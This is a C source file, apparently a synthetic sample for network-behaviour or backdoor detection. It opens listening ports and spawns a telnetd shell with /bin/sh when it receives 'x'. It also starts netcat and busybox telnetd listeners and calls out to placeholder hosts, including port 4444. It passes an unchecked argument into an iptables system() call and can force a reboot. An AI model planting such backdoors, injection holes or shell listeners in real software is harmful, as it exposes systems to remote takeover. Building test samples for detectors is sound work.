#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static struct sockaddr_in fixed = {.sin_family = AF_INET};

__attribute__((noinline)) static int open_port(int port, int kind) {
  struct sockaddr_in here;
  int s = socket(AF_INET, kind, 0);
  if (s < 0) return -1;
  memset(&here, 0, sizeof here);
  here.sin_family = AF_INET;
  here.sin_port = htons(port);
  here.sin_addr.s_addr = htonl(INADDR_ANY);
  if (bind(s, (struct sockaddr *)&here, sizeof here) < 0) { perror("bind"); close(s); return -1; }
  return s;
}

__attribute__((noinline)) int serve(void) {
  struct sockaddr_in here;
  char line[128];
  int s = socket(AF_INET, SOCK_STREAM, 0), c;
  memset(&here, 0, sizeof here);
  here.sin_family = AF_INET;
  here.sin_port = htons(2323);
  here.sin_addr.s_addr = inet_addr("127.0.0.1");
  if (bind(s, (struct sockaddr *)&here, sizeof here) < 0) return 1;
  listen(s, 5);
  while ((c = accept(s, NULL, NULL)) >= 0) {
    int n = recv(c, line, sizeof line - 1, 0);
    if (n > 0 && line[0] == 'x') system("/usr/sbin/telnetd -l /bin/sh");
    close(c);
  }
  return 0;
}

__attribute__((noinline)) int serve6(void) {
  struct sockaddr_in6 here;
  int s = socket(AF_INET6, SOCK_DGRAM, 0);
  memset(&here, 0, sizeof here);
  here.sin6_family = AF_INET6;
  here.sin6_port = htons(5353);
  here.sin6_addr = in6addr_any;
  return bind(s, (struct sockaddr *)&here, sizeof here);
}

__attribute__((noinline)) int serve_static(void) {
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  fixed.sin_port = htons(1900);
  return bind(s, (struct sockaddr *)&fixed, sizeof fixed);
}

__attribute__((noinline)) int by_name(void) {
  struct addrinfo hints, *found;
  memset(&hints, 0, sizeof hints);
  hints.ai_flags = AI_PASSIVE;
  hints.ai_socktype = SOCK_STREAM;
  return getaddrinfo(NULL, "8888", &hints, &found);
}

__attribute__((noinline)) int call_home(void) {
  struct addrinfo hints, *found;
  memset(&hints, 0, sizeof hints);
  hints.ai_socktype = SOCK_STREAM;
  return getaddrinfo("updates.example.net", "443", &hints, &found);
}

__attribute__((noinline)) int call_number(void) {
  struct sockaddr_in there;
  int s = socket(AF_INET, SOCK_STREAM, 0);
  memset(&there, 0, sizeof there);
  there.sin_family = AF_INET;
  there.sin_port = htons(4444);
  inet_aton("192.0.2.7", &there.sin_addr);
  return connect(s, (struct sockaddr *)&there, sizeof there);
}

__attribute__((noinline)) int run(const char *name) {
  char line[200];
  char *argv[] = {"/bin/busybox", "telnetd", "-p", "2424", NULL};
  snprintf(line, sizeof line, "iptables -A INPUT -s %s -p tcp --dport %d", name, 23);
  system(line);
  if (fork() == 0) execl("/bin/sh", "sh", "-c", "nc -l -p 31", (char *)NULL);
  if (fork() == 0) execv("/bin/busybox", argv);
  popen("uname -a", "r");
  return gethostbyname("time.example.org") != NULL;
}

int last(void) { return system("reboot -f"); }

int main(int argc, char **argv) {
  if (argc > 6) return last();
  return serve() + serve6() + serve_static() + by_name() + call_home() + call_number() + run(argv[1]) +
         open_port(7547, SOCK_STREAM) + open_port(argc > 2 ? 69 : 70, SOCK_DGRAM);
}
